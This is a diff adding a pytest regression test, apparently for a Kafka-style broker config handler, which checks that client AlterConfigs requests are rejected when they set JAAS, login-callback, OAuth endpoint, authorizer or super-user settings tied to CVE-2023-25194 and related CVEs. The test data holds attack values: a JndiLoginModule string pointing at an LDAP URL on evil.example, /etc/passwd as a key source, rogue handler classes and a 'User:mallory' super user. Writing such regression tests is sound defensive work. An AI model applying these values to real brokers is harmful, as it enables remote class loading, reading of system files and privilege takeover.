@@ -100,3 +100,41 @@ def test_a_granted_change_of_a_broker(name, value, cluster):
 def test_append_to_a_brokers_list_starts_from_its_default():
     after = alter_broker({}, [Change("log.cleanup.policy", APPEND, "compact")], cluster=False)
     assert after == {"log.cleanup.policy": "delete,compact"}
+
+
+JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example/x";'
+
+
+@pytest.mark.parametrize("cluster", [False, True])
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("sasl.jaas.config", JNDI),
+        ("listener.name.sasl_ssl.sasl.jaas.config", JNDI),
+        ("listener.name.sasl_ssl.scram-sha-512.sasl.jaas.config", JNDI),
+        ("listener.name.sasl_ssl.gssapi.sasl.jaas.config", JNDI),
+        ("listener.name.sasl_ssl.plain.sasl.server.callback.handler.class", "org.evil.Handler"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.login.callback.handler.class", "org.evil.Handler"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.login.class", "org.evil.Login"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.jwks.endpoint.url", "https://evil.example/keys"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.assertion.private.key.file", "/etc/passwd"),
+        ("listener.name.sasl_ssl.oauthbearer.sasl.oauthbearer.expected.audience", "mine"),
+        ("sasl.oauthbearer.jwks.endpoint.url", "https://evil.example/keys"),
+        ("sasl.enabled.mechanisms", "PLAIN"),
+        ("listener.name.sasl_ssl.sasl.enabled.mechanisms", "PLAIN"),
+        ("sasl.mechanism.inter.broker.protocol", "PLAIN"),
+        ("listener.name.sasl_ssl.connections.max.reauth.ms", "1"),
+        ("listener.name.sasl_ssl.plain.connections.max.reauth.ms", "1"),
+        ("principal.builder.class", "org.evil.Builder"),
+        ("authorizer.class.name", ""),
+        ("super.users", "User:mallory"),
+        ("allow.everyone.if.no.acl.found", "true"),
+    ],
+)
+def test_cve_2023_25194_no_class_file_or_url_of_logins_comes_from_a_client(name, value, cluster):
+    """The class of CVE-2023-25194, CVE-2025-27818 and CVE-2025-27817: JndiLoginModule through AlterConfigs."""
+    with pytest.raises(ApiError) as error:
+        alter_broker({}, [Change(name, SET, value)], cluster=cluster)
+    assert error.value.code == ErrorCode.INVALID_REQUEST
+    assert "evil" not in str(error.value)
